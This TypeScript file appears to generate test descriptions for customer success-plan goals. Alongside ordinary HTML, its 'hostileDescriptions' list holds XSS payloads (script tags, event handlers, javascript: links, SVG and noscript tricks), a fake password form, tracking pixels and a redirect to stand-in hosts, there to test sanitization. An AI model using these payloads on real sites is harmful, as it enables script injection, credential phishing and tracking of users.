import type { Random } from './random.ts'

const openings = [
  'Agreed in the kickoff with the executive sponsor.',
  'The customer named this as its first priority for the year.',
  'Came out of the last business review.',
  'Carried over from the previous success plan.',
  'Measured by the customer, reviewed with us every month.',
  'Depends on the integration being live.',
] as const
const steps = [
  'Baseline measured',
  'Pilot with one team',
  'Roll out to all sites',
  'Train the administrators',
  'Review after 30 days',
  'Retire the old process',
  'Report to the steering committee',
] as const
const closings = [
  '<p><em>Owner on the customer side changes in the spring.</em></p>',
  '<p>See the <a href="https://example.com/plan">shared plan</a>.</p>',
  '<p><strong>Blocked</strong> until procurement has signed.</p>',
  '<p><br></p>',
  '',
  '',
] as const

function ordinary(random: Random): string {
  const opening = random.pick(openings)
  switch (random.int(0, 4)) {
    case 0:
      return `<p>${opening}</p>`
    case 1:
      return `<p><br>${opening}</p>${random.pick(closings)}`
    case 2:
      return `<p>${opening}</p><ul>${[1, 2, 3].map(() => `<li>${random.pick(steps)}</li>`).join('')}</ul>${random.pick(closings)}`
    case 3:
      return `<p>${opening}</p><table><tbody><tr><th>Now</th><th>Target</th></tr><tr><td>${random.int(10, 40)}&nbsp;%</td><td>${random.int(50, 90)}&nbsp;%</td></tr></tbody></table>`
    default:
      return `<h3>${random.pick(steps)}</h3><p>${opening}&nbsp;<span style="color: rgb(0, 97, 194);">${random.pick(steps)}</span></p><ol><li>${random.pick(steps)}</li><li>${random.pick(steps)}</li></ol>`
  }
}

/** What a careless import, an old e-mail or an attacker leaves behind. None may run, load or break a screen. */
export const hostileDescriptions: readonly string[] = [
  '<p>Hello</p><script>window.__hostile = "script"</script>',
  '<img src="x" onerror="window.__hostile = \'onerror\'">',
  '<a href="javascript:window.__hostile = \'link\'">Open the plan</a>',
  '<a href=" jav&#x09;ascript:alert(1)">Open the plan</a><a href="data:text/html,<script>alert(1)</script>">And this</a>',
  '<svg><script>window.__hostile = "svg"</script><a xlink:href="javascript:alert(1)"><text y="20">Chart</text></a></svg>',
  '<svg onload="window.__hostile = \'svg-onload\'"></svg><math><mtext></mtext></math>',
  '<style>* { display: none !important }</style><p style="position: fixed; inset: 0; background: url(https://tracker.example.invalid/style.gif)">Covers everything</p>',
  '<p>Read receipt</p><img src="https://tracker.example.invalid/open.gif?id=1" width="1" height="1">',
  '<iframe src="https://example.invalid/"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://example.invalid/login"><input name="password"><button>Sign in again</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://example.invalid/"><base href="https://example.invalid/"><link rel="stylesheet" href="https://example.invalid/x.css">',
  '<p>Never closed <b>bold <i>italic <table><tr><td>cell<p>paragraph</b> in the wrong order <li>stray item',
  '<<p>>Broken </p <img src=x onerror=alert(1)//<a href=\'x\' "onclick=alert(1)">',
  `${'<table><tbody><tr><td>'.repeat(60)}deep${'</td></tr></tbody></table>'.repeat(60)}`,
  '<p>&lt;script&gt;alert("text, not markup")&lt;/script&gt; &amp;amp; &#128512; &nbsp;</p>',
  '<p onclick="alert(1)" onmouseover="alert(1)" contenteditable="true" id="root" name="__proto__">Attributes</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>',
  'Plain text with\nline breaks & "quotes" <not a tag',
  `<p>${'A very long paragraph that somebody pasted from a report. '.repeat(2000)}</p>`,
]

/** Chooses a description; most are ordinary, one in fifty is hostile, one in six is empty. They are shared, so that 100,000 goals stay small. */
export function createDescriptions(random: Random): (random: Random) => string | null {
  const pool = Array.from({ length: 400 }, () => ordinary(random))
  return (each) => {
    const roll = each.next()
    if (roll < 0.02) return each.pick(hostileDescriptions)
    return roll < 0.19 ? null : each.pick(pool)
  }
}
